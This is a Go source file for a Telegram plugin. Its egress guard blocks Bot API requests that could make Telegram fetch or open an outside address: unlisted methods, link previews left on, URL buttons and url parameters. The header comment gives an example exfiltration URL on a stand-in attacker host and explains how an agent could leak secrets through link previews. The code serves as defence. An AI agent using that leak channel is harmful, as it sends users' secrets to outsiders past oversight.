package telegram

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"net/http"
	"net/url"
	"path"
	"strings"

	"github.com/carapace-dev/carapace/internal/textutil"
)

// Nothing leaves through a chat. Telegram fetches the first URL in a
// message's text for a link preview at once, before anyone clicks, so
// an agent that writes https://attacker.example/?d=SECRET in an answer
// or a send_telegram call would have Telegram's servers carry the secret
// out. Every text the plugin sends or edits is built by textParams and
// editParams (sender.go), which turn the preview off; and every request
// to the Bot API passes egressGuard, which refuses, before it leaves:
//
//   - a method not listed in egressPolicy (a future sendPhoto, say, that
//     could carry a caption or make Telegram download a URL), until
//     someone has looked at what it can carry and listed it;
//   - a text method (sendMessage, editMessageText) without
//     link_preview_options.is_disabled = true;
//   - buttons other than callback buttons (a url, login_url or web_app
//     button opens an address the agent could choose);
//   - any "url" parameter (answerCallbackQuery's url opens one).

// egressPolicy says what the plugin may ask of the Bot API: each method
// it calls, and whether the request carries text a client renders.
var egressPolicy = map[string]egressKind{
	"getMe":               egressPlain,
	"getUpdates":          egressPlain,
	"deleteWebhook":       egressPlain,
	"setMyCommands":       egressPlain, // the commands' fixed descriptions (commands.go)
	"sendChatAction":      egressPlain, // "typing"
	"answerCallbackQuery": egressPlain, // a short notice on the phone, no preview; its url is refused below
	"sendMessage":         egressText,
	"editMessageText":     egressText,
	// The buttons of a message, removed; no text.
	"editMessageReplyMarkup": egressPlain,
}

type egressKind int

const (
	egressPlain egressKind = iota + 1 // no text a client renders as a message
	egressText                        // a message's text: the preview must be off
)

// errEgress: the plugin refused to send a request that could make
// Telegram fetch or open an address (see egressPolicy).
var errEgress = errors.New("telegram: refused to send a Bot API request that could reach an outside address")

// maxEgressBody bounds the request bodies the guard reads: a message is at
// most 4096 characters (16 KiB of UTF-8) plus its buttons.
const maxEgressBody = 1 << 20

// egressGuard is the Bot API's HTTP client: it checks every request
// against egressPolicy before it leaves.
type egressGuard struct {
	client *http.Client
}

// Do implements bot.HttpClient.
func (g *egressGuard) Do(req *http.Request) (*http.Response, error) {
	if req.Body != nil {
		body, err := io.ReadAll(io.LimitReader(req.Body, maxEgressBody+1))
		req.Body.Close()
		if err != nil {
			return nil, fmt.Errorf("telegram: read a request to check it: %w", err)
		}
		if len(body) > maxEgressBody {
			return nil, fmt.Errorf("%w: a request body over %d bytes", errEgress, maxEgressBody)
		}
		req.Body = io.NopCloser(bytes.NewReader(body))
		req.ContentLength = int64(len(body))
		req.GetBody = func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(body)), nil }
		if err := checkEgress(path.Base(req.URL.Path), req.Header.Get("Content-Type"), body); err != nil {
			return nil, err
		}
	} else if err := checkEgress(path.Base(req.URL.Path), "", nil); err != nil {
		return nil, err
	}
	return g.client.Do(req)
}

// checkEgress checks one request: its method, and its parameters.
func checkEgress(method, contentType string, body []byte) error {
	kind, ok := egressPolicy[method]
	if !ok {
		return fmt.Errorf("%w: the plugin does not call %s (egress.go lists what it may, after checking what each can carry)", errEgress, textutil.Clip(method, 40))
	}
	params, err := formParams(contentType, body)
	if err != nil {
		return fmt.Errorf("%w: %s: %v", errEgress, method, err)
	}
	if params["url"] != "" {
		return fmt.Errorf("%w: %s with a url", errEgress, method)
	}
	if err := checkButtons(params["reply_markup"]); err != nil {
		return err
	}
	if kind != egressText {
		return nil
	}
	var lp struct {
		IsDisabled bool `json:"is_disabled"`
	}
	if json.Unmarshal([]byte(params["link_preview_options"]), &lp) != nil || !lp.IsDisabled {
		return fmt.Errorf("%w: %s without link_preview_options.is_disabled (Telegram would fetch the first URL of the text)", errEgress, method)
	}
	return nil
}

// checkButtons allows only callback buttons: a button that opens an
// address (url, login_url, web_app) or does anything else is refused.
func checkButtons(raw string) error {
	if raw == "" {
		return nil
	}
	var kb struct {
		Rows [][]map[string]json.RawMessage `json:"inline_keyboard"`
	}
	if err := json.Unmarshal([]byte(raw), &kb); err != nil {
		return fmt.Errorf("%w: reply_markup is not an inline keyboard", errEgress)
	}
	for _, row := range kb.Rows {
		for _, b := range row {
			for k, v := range b {
				switch k {
				case "text", "callback_data":
				case "copy_text": // go-telegram/bot sends an empty one with every button
					var ct struct {
						Text string `json:"text"`
					}
					if json.Unmarshal(v, &ct) != nil || ct.Text != "" {
						return fmt.Errorf("%w: a button with copy_text", errEgress)
					}
				default:
					return fmt.Errorf("%w: a button with %s (only callback buttons)", errEgress, textutil.Clip(k, 40))
				}
			}
		}
	}
	return nil
}

// formParams decodes a request's parameters: a multipart form (what
// go-telegram/bot sends), a urlencoded form or a JSON object.
func formParams(contentType string, body []byte) (map[string]string, error) {
	out := map[string]string{}
	if len(body) == 0 {
		return out, nil
	}
	ct, ctParams, err := mime.ParseMediaType(contentType)
	if err != nil {
		return nil, fmt.Errorf("content type %q", textutil.Clip(contentType, 60))
	}
	switch ct {
	case "multipart/form-data":
		mr := multipart.NewReader(bytes.NewReader(body), ctParams["boundary"])
		for {
			part, err := mr.NextPart()
			if errors.Is(err, io.EOF) {
				return out, nil
			}
			if err != nil {
				return nil, fmt.Errorf("multipart: %w", err)
			}
			if part.FileName() != "" {
				return nil, errors.New("a file upload")
			}
			b, err := io.ReadAll(part)
			if err != nil {
				return nil, err
			}
			out[part.FormName()] = string(b)
		}
	case "application/x-www-form-urlencoded":
		v, err := url.ParseQuery(string(body))
		if err != nil {
			return nil, err
		}
		for k, vv := range v {
			out[k] = strings.Join(vv, "")
		}
		return out, nil
	case "application/json":
		var m map[string]json.RawMessage
		if err := json.Unmarshal(body, &m); err != nil {
			return nil, err
		}
		for k, v := range m {
			var s string
			if json.Unmarshal(v, &s) == nil {
				out[k] = s
			} else {
				out[k] = string(v)
			}
		}
		return out, nil
	}
	return nil, fmt.Errorf("content type %q", textutil.Clip(ct, 60))
}
